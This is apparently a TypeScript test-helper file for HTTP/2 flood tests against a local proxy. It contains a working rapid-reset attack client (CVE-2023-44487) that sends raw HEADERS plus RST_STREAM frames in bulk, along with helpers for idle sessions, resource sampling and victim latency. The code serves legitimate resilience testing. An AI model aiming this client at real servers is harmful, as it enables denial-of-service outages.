/**
 * Hostile HTTP/2 clients for flood tests: raw frames where node's client would refuse to misbehave
 * (rapid reset), node's client where it can (idle sessions, zero-window and never-ending streams),
 * and a sampler of a process's memory and descriptors while an attack runs.
 */
import http2, { type ClientHttp2Session } from 'node:http2';
import { connect as tlsConnect, type TLSSocket } from 'node:tls';
import { openFds, rssBytes } from './daemon-harness.js';
import { within } from './raw-client.js';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const FRAME_HEADERS = 0x1;
const FRAME_RST_STREAM = 0x3;
const FRAME_SETTINGS = 0x4;
const FLAG_END_STREAM = 0x1;
const FLAG_END_HEADERS = 0x4;
const CANCEL = 0x8;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK block of `GET https://<authority>/`: static-table indexes plus one literal (RFC 7541 appendix A). */
function getHeadersBlock(authority: string): Buffer {
  const name = Buffer.from(authority, 'latin1');
  // :method GET (2), :scheme https (7), :path / (4), :authority literal without indexing (name index 1).
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, name.length]), name]);
}

/** An attacking TLS connection and whether the server has closed it. */
export interface AttackConnection {
  socket: TLSSocket;
  /** Resolves when the server closed (or reset) the connection. */
  closed: Promise<void>;
}

/**
 * Opens an h2 connection to `port` with SNI `host` and sends `pairs` HEADERS + RST_STREAM(CANCEL)
 * pairs in one write (CVE-2023-44487), then keeps the connection open as the attacker would.
 */
export function rapidReset(port: number, host: string, pairs: number): Promise<AttackConnection> {
  return new Promise((resolve, reject) => {
    const socket = tlsConnect({ port, host: '127.0.0.1', servername: host, ALPNProtocols: ['h2'], rejectUnauthorized: false }, () => {
      const block = getHeadersBlock(host);
      const frames = [PREFACE, frame(FRAME_SETTINGS, 0, 0, Buffer.alloc(0))];
      const cancel = Buffer.alloc(4);
      cancel.writeUInt32BE(CANCEL);
      for (let i = 0; i < pairs; i++) {
        const id = 1 + 2 * i;
        frames.push(frame(FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, id, block));
        frames.push(frame(FRAME_RST_STREAM, 0, id, cancel));
      }
      socket.write(Buffer.concat(frames));
      resolve({ socket, closed });
    });
    const closed = new Promise<void>((done) => socket.once('close', () => done()));
    socket.on('data', () => undefined);
    socket.on('error', () => undefined);
    socket.once('error', reject);
  });
}

/** An h2 client session to the proxy's HTTPS port (certificate not checked: the attacker does not care). */
export function h2Session(port: number, host: string, settings: http2.Settings = {}): Promise<ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    const session = http2.connect(`https://${host}:${port}`, {
      settings,
      rejectUnauthorized: false,
      createConnection: () => tlsConnect({ port, host: '127.0.0.1', servername: host, ALPNProtocols: ['h2'], rejectUnauthorized: false }),
    });
    session.on('error', () => undefined);
    session.once('connect', () => resolve(session));
    session.once('error', reject);
  });
}

/** One GET on `session`; resolves the status once the whole body arrived. */
export function h2Get(session: ClientHttp2Session, path: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const stream = session.request({ ':path': path });
    let status = 0;
    stream.on('response', (headers) => (status = Number(headers[':status'])));
    stream.on('data', () => undefined);
    stream.on('end', () => resolve(status));
    stream.on('error', reject);
    stream.end();
  });
}

/** Resolves when `session`'s connection is closed by either side. */
export function sessionClosed(session: ClientHttp2Session): Promise<void> {
  return new Promise((resolve) => {
    if (session.closed || session.destroyed) resolve();
    else session.once('close', () => resolve());
  });
}

/** The largest RSS and descriptor count a process reached while sampling ran. */
export interface ResourcePeak {
  rssBytes: number;
  fds: number;
}

/** Samples `pid`'s RSS and open descriptors every `everyMs` until `stop()`; returns the peaks. */
export function sampleResources(pid: number, everyMs = 100): { stop(): Promise<ResourcePeak> } {
  const peak: ResourcePeak = { rssBytes: 0, fds: 0 };
  let busy: Promise<void> = Promise.resolve();
  const sample = async (): Promise<void> => {
    const [rss, fds] = await Promise.all([rssBytes(pid), openFds(pid)]);
    peak.rssBytes = Math.max(peak.rssBytes, rss);
    peak.fds = Math.max(peak.fds, fds);
  };
  const timer = setInterval(() => {
    busy = busy.then(sample).catch(() => undefined);
  }, everyMs);
  return {
    async stop() {
      clearInterval(timer);
      await busy.then(sample).catch(() => undefined);
      return peak;
    },
  };
}

/** The p99 of `samples` (nearest rank). */
export function p99(samples: readonly number[]): number {
  const sorted = [...samples].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.ceil(sorted.length * 0.99) - 1)] ?? Number.NaN;
}

/**
 * Runs `request` back to back while `busy()` is true, at least `minCount` and at most `maxCount`
 * times and for at most `maxMs`; returns each latency in ms and each failure.
 */
export async function measureVictim(request: () => Promise<number>, options: { minCount: number; maxCount: number; maxMs: number; busy: () => boolean }): Promise<{ latencies: number[]; failures: string[] }> {
  const latencies: number[] = [];
  const failures: string[] = [];
  const deadline = Date.now() + options.maxMs;
  while (latencies.length + failures.length < options.maxCount && Date.now() < deadline && (options.busy() || latencies.length + failures.length < options.minCount)) {
    const started = performance.now();
    try {
      const status = await within(request(), 10_000, 'a victim request');
      latencies.push(performance.now() - started);
      if (status !== 200) failures.push(`status ${status}`);
    } catch (error) {
      latencies.push(performance.now() - started);
      failures.push(String((error as Error).message));
    }
  }
  return { latencies, failures };
}
